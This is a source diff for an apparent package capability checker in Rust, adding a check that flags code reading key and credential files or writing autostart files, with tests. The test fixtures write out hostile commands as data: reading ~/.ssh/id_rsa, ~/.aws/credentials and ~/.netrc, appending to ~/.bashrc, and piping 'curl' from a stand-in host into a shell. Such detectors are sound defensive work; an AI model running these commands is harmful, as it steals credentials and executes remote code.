@@ -1,6 +1,6 @@
 //! The check that compares the capabilities of the source with the declarations.
 
-use super::{literals, scan};
+use super::{literals, places, scan};
 use crate::check::CheckContext;
 use crate::check::source::{Language, text_of};
 use crate::check::started::Started;
@@ -110,6 +110,9 @@ fn judge<'c>(
     if is_test {
         return said(Severity::Low, format!("in its tests: {words}"));
     }
+    if let Some(why) = told_place(capability) {
+        return said(Severity::Medium, format!("{words}; {why}"));
+    }
     match declared(capability, manifest) {
         Declared::Nothing => None,
         Declared::Yes => said(Severity::Low, words.clone()),
@@ -118,6 +121,23 @@ fn judge<'c>(
         Declared::No if manifest.dialect != Dialect::Native => said(Severity::Low, words.clone()),
         Declared::No => said(capability.kind.severity(), format!("{words}; not declared")),
         Declared::Undeclarable => said(capability.kind.severity(), words.clone()),
+    }
+}
+
+/// What is special about the path that a capability reads or writes. It is worth a warning whatever is declared: few tools
+/// have to do with such places.
+fn told_place(capability: &Capability) -> Option<&'static str> {
+    let code = capability.argument.iter().map(String::as_str).chain([capability.words.as_str()]);
+    match capability.kind {
+        Kind::ReadsFiles | Kind::ReadsOutside => {
+            code.filter_map(places::secret).next().map(|_| "keys or passwords are kept there")
+        }
+        Kind::WritesFiles | Kind::DeletesFiles => {
+            let mut code = code;
+            code.any(|code| places::start(code).is_some() || places::secret(code).is_some())
+                .then_some("what is there runs by itself, or gives access")
+        }
+        _ => None,
     }
 }
 
@@ -360,6 +380,43 @@ mod tests {
         version.files = crate::check::fixture::files(&[("t.py", "print(1)\n")]);
         let report = examined(examine, &version);
         assert_eq!(codes(&report), [("declared-unused", Severity::Low); 4]);
+    }
+
+    #[test]
+    fn places_for_keys_and_what_a_fixed_text_of_a_shell_does_are_told_whatever_declares_them() {
+        let told = |path: &str, code: &str, word: &str| {
+            let mut version = version("t", &[(path, code)]);
+            version.manifest.dialect = Dialect::Header;
+            let found = codes_of(&examined(examine, &version));
+            assert!(found.contains(&(word.to_owned(), Severity::Medium)) || word == "eval", "{code}: {found:?}");
+            found
+        };
+        told("t.py", "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n", "reads-outside");
+        told("t.py", "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()\n", "reads-files");
+        told(
+            "t.mjs",
+            "import fs from 'fs';\nfs.readFileSync(process.env.HOME + '/.aws/credentials');\n",
+            "reads-files",
+        );
+        told("t.sh", "cat ~/.netrc\n", "reads-outside");
+        told("t.sh", "echo x >> ~/.bashrc\n", "writes-files");
+        for (path, code) in [
+            ("t.py", "import subprocess\nsubprocess.run('curl -s http://x.y/z | sh', shell=True)\n"),
+            ("t.py", "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s http://x.y/z | sh'])\n"),
+            ("t.mjs", "import {execSync} from 'child_process';\nexecSync('curl -s http://x.y/z | sh');\n"),
+            ("t.sh", "curl -s http://x.y/z | sh\n"),
+        ] {
+            let found = told(path, code, "eval");
+            assert!(found.contains(&("eval".to_owned(), Severity::High)), "{code}: {found:?}");
+        }
+        // Ordinary files and commands stay facts.
+        let mut version = version("t", &[("t.py", "import os\nopen('/etc/hostname')\nos.system('ls -l')\n")]);
+        version.manifest.dialect = Dialect::Header;
+        assert!(codes_of(&examined(examine, &version)).iter().all(|(_, severity)| *severity == Severity::Low));
+    }
+
+    fn codes_of(report: &CheckReport) -> Vec<(String, Severity)> {
+        report.findings.iter().map(|finding| (finding.code.clone(), finding.severity)).collect()
     }
 
     #[test]
